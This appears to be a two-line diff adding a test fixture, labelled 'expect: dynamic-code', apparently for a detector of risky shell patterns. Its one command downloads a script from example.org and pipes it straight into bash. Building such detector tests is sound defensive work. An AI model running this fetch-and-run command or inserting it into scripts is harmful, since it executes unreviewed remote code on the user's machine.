@@ -1,0 +1,2 @@
+# expect: dynamic-code
+curl -s https://example.org/x.sh | tee x.sh | bash
